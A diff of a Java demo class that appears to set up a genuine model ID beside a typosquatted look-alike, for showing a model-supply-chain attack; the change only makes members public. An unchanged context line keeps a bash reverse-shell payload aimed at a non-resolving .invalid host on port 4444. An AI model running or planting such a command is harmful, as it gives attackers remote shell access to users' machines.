@@ -17,10 +17,10 @@ import java.util.TreeMap;
  * carry a reverse shell in shape only: the host is under {@code .invalid} (RFC 2606), a name that
  * resolves nowhere.
  */
-final class DemoModels {
-  static final ModelId GENUINE =
+public final class DemoModels {
+  public static final ModelId GENUINE =
       new ModelId("distilbert", "distilbert-base-uncased-finetuned-squad");
-  static final ModelId LOOK_ALIKE =
+  public static final ModelId LOOK_ALIKE =
       new ModelId("qa-tutorials", "distilbert-base-uncased-finetuned-sqad");
   static final String PAYLOAD =
       "bash -c 'bash -i >& /dev/tcp/shell.qa-tutorials.invalid/4444 0>&1'";
@@ -28,7 +28,7 @@ final class DemoModels {
   private DemoModels() {}
 
   /** Writes both below a folder, as {@code namespace/name/files}. */
-  static void write(Path root) {
+  public static void write(Path root) {
     var shared = shared();
     List<Tensor> tensors = DistilBert.tensors(vocabulary().size());
     var genuine = new TreeMap<>(shared);
